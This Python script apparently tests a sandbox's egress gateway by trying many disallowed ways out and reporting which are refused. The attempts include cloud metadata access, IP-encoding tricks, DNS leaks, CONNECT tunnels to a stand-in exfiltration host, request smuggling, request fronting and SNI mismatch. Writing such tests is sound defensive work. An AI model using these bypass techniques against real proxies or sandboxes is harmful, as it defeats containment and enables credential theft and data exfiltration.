"""Tries every way out that is not allowed. Prints JSON: attempt to what happened. Standard library only."""

import json
import os
import socket
import ssl
import sys
import urllib.parse

PROXY = urllib.parse.urlsplit(os.environ["http_proxy"])
DAEMON, WITNESS, WITNESS_PORT = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
RESOLVE = bytes.fromhex("aaaa01000001000000000000") + b"\x06secret\x07example\x00\x00\x10\x00\x01"
results = {}


def attempt(name, act):
    try:
        results[name] = f"REACHED {act()!r}"[:200]
    except OSError as error:
        results[name] = f"refused {type(error).__name__} {error}"[:200]


def direct(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as channel:
        channel.settimeout(2)
        channel.connect(address)
        if kind == socket.SOCK_DGRAM:
            channel.send(RESOLVE)
            return channel.recv(512)
        return "connected"


def through(request):
    with socket.create_connection((PROXY.hostname, PROXY.port), timeout=10) as channel:
        channel.sendall(request)
        answer = channel.recv(4096).decode("latin-1")
    status = answer.split("\r\n", 1)[0]
    if not answer or " 200 " not in f"{status} ":
        raise ConnectionRefusedError(status or "closed")
    return status


def tunnel(authority):
    return through(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())


def get(url, host, extra=""):
    return through(f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{extra}\r\n".encode())


def fronted():
    """The allowed authority outside, another one inside the request line or the second request."""
    allowed = f"{WITNESS}:{WITNESS_PORT}"
    first = f"POST http://{allowed}/job/run/front HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 0\r\n\r\n"
    second = "GET http://exfil.example/secret HTTP/1.1\r\nHost: exfil.example\r\nConnection: close\r\n\r\n"
    with socket.create_connection((PROXY.hostname, PROXY.port), timeout=10) as channel:
        channel.sendall((first + second).encode())
        answer = b""
        while piece := channel.recv(4096):
            answer += piece
    statuses = [line for line in answer.decode("latin-1").split("\r\n") if line.startswith("HTTP/1.1 ")]
    if len(statuses) > 1 and " 200 " in statuses[1]:
        return statuses
    raise ConnectionRefusedError(" | ".join(statuses))


def smuggled():
    """Two lengths that disagree: what one side takes for a body is a second request to the other."""
    allowed = f"{WITNESS}:{WITNESS_PORT}"
    inner = "GET http://exfil.example/ HTTP/1.1\r\nHost: exfil.example\r\n\r\n"
    head = (
        f"POST http://{allowed}/job/run/smuggle HTTP/1.1\r\nHost: {allowed}\r\n"
        f"Content-Length: {len(inner)}\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    return through((head + "0\r\n\r\n" + inner).encode())


def hello_to_another():
    """A tunnel to the allowed name, and inside it TLS for another one."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((PROXY.hostname, PROXY.port), timeout=10) as channel:
        channel.sendall(f"CONNECT {WITNESS}:{WITNESS_PORT} HTTP/1.1\r\nHost: {WITNESS}:{WITNESS_PORT}\r\n\r\n".encode())
        status = channel.recv(4096).split(b"\r\n", 1)[0].decode()
        if " 200 " not in f"{status} ":
            raise ConnectionRefusedError(status)
        with context.wrap_socket(channel, server_hostname="exfil.example") as inner:
            return inner.version()


for name, address in {
    "metadata v4": ("169.254.169.254", 80),
    "metadata, a container's": ("169.254.170.2", 80),
    "metadata, another cloud's": ("100.100.100.200", 80),
    "a raw address": ("192.0.2.1", 443),
    "the daemon": ("127.0.0.1", DAEMON),
    "the witness without the gateway": ("127.0.0.1", WITNESS_PORT),
}.items():
    attempt(f"direct: {name}", lambda address=address: direct(address))
attempt("direct: metadata v6", lambda: direct(("fd00:ec2::254", 80), socket.AF_INET6))
attempt("direct: a raw v6 address", lambda: direct(("2001:db8::1", 443), socket.AF_INET6))
attempt("direct: DNS", lambda: direct(("192.0.2.53", 53), kind=socket.SOCK_DGRAM))
attempt("direct: the machine's resolver", lambda: direct(("127.0.0.53", 53), kind=socket.SOCK_DGRAM))
attempt("direct: a name", lambda: socket.getaddrinfo("secret.exfil.example", 443))
attempt("direct: a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("direct: a packet socket", lambda: socket.socket(17, socket.SOCK_RAW))

for authority in (
    "169.254.169.254:80",
    "[fd00:ec2::254]:80",
    "[::ffff:169.254.169.254]:80",
    "2852039166:80",
    "0xa9fea9fe:80",
    "0251.0376.0251.0376:80",
    "169.254.43518:80",
    "metadata.google.internal:80",
    f"127.0.0.1:{DAEMON}",
    f"localhost:{DAEMON}",
    f"[::1]:{DAEMON}",
    "exfil.example:443",
    f"{'a' * 60}.{'b' * 60}.exfil.example:443",
    f"{WITNESS}.exfil.example:{WITNESS_PORT}",
    f"{WITNESS}:22",
    f"{WITNESS}@exfil.example:443",
    f"exfil.example#{WITNESS}:{WITNESS_PORT}",
    "dns.example:853",
):
    attempt(f"gateway: CONNECT {authority}", lambda authority=authority: tunnel(authority))
attempt("gateway: plain HTTP to another host", lambda: get("http://exfil.example/", "exfil.example"))
attempt(
    "gateway: another host behind the allowed Host header",
    lambda: get("http://exfil.example/", f"{WITNESS}:{WITNESS_PORT}"),
)
attempt("gateway: a second request to another host", fronted)
attempt("gateway: smuggling by two lengths", smuggled)
attempt("gateway: TLS for another name in an allowed tunnel", hello_to_another)
attempt("gateway: DNS over HTTPS", lambda: get("http://dns.example/dns-query?dns=AAAB", "dns.example"))
print(json.dumps(results))
